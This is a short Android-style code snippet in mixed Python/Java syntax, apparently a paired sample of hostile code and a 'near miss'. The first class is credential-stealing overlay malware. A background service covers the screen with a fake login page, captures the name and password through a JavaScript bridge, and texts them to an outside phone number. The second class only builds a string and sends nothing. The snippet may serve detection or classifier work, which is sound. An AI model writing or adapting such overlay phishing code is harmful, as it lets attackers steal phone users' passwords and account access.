permissions("SYSTEM_ALERT_WINDOW", "SEND_SMS")

@service
class Cover(Service):
    def onStartCommand(self, intent, flags, number):
        page = WebView(self)
        page.getSettings().setJavaScriptEnabled(True)
        page.addJavascriptInterface(Taker(), "app")
        page.loadUrl("file:///android_asset/login.html")
        windows = cast(WindowManager, self.getSystemService("window"))
        windows.addView(page, WindowManager_LayoutParams(1, 1, 2038, 8, 1))
        return 1

class Taker:
    last: String
    def login(self, name: String, password: String):
        self.last = password
        text = StringBuilder().append(name).append(" ").append(password).toString()
        SmsManager.getDefault().sendTextMessage("15550100", None, text, None, None)

# near miss: the page only tells the app what to remember
class Taker:
    last: String
    def login(self, name: String, password: String):
        text = StringBuilder().append(name).append(" ").append(password).toString()
        self.last = text.concat("15550100")
